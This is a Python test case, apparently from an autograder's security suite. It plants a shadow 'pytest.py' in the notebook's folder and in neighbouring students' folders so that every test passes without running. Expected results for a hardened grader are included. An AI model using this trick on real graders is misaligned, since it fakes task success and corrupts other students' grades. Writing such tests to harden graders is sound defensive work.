"""Batches: write pytest.py into the working directory, the notebook's folder and the neighbours' folders.

Attack: the grader starts ``python -m pytest`` with the notebook's folder as working directory,
and ``-m`` puts the working directory first on sys.path: a ``pytest.py`` there runs instead of
pytest. The shadow removes itself from sys.path and runs the real pytest with a plugin that
passes every test without calling it. Written into the working directory, the notebook's
folder, its parent, every sibling folder (the neighbours of a batch) and their subfolder of the
same name (nbgrader's ``autograded/<student>/<id>/``). Only folders under /tmp
folder are written (damage bound).
Old grader: see BASELINE.md (expected: this case 0, the neighbours graded after it full marks).
"""
EXPECT = {"isolate": True, 
    "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end",
    "leaves_no_trace": ["{notebook_dir}/pytest.py", "{batch_dir}/pytest.py", "{batch_dir}/*/pytest.py",
                        "{batch_dir}/*/*/pytest.py"],
}

import os as _os
from pathlib import Path as _Path

_SHADOW = '''import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules[__name__]
import pytest as _real
if __name__ == "__main__":
    class _PassAll:
        @_real.hookimpl(tryfirst=True)
        def pytest_pyfunc_call(self, pyfuncitem):
            return True
    sys.exit(_real.main(sys.argv[1:], plugins=[_PassAll()]))
else:
    sys.modules[__name__] = _real
'''


def _targets():
    here = _Path(__file__).resolve().parent if "__file__" in globals() else _Path.cwd().resolve()
    folders = {_Path.cwd().resolve(), here, here.parent}
    for sibling in here.parent.iterdir() if here.parent.is_dir() else []:
        if sibling.is_dir():
            folders.add(sibling)
            if (sibling / here.name).is_dir():
                folders.add(sibling / here.name)
    for sibling in here.parent.parent.iterdir() if here.parent.parent.is_dir() else []:
        if sibling.is_dir() and (sibling / here.name).is_dir():
            folders.add(sibling / here.name)
    return folders


_tmp = _os.path.realpath("/tmp") + "/"
for _folder in _targets():
    if str(_folder).startswith(_tmp) and _folder != _Path(_tmp):
        try:
            (_folder / "pytest.py").write_text(_SHADOW)
        except OSError:
            pass
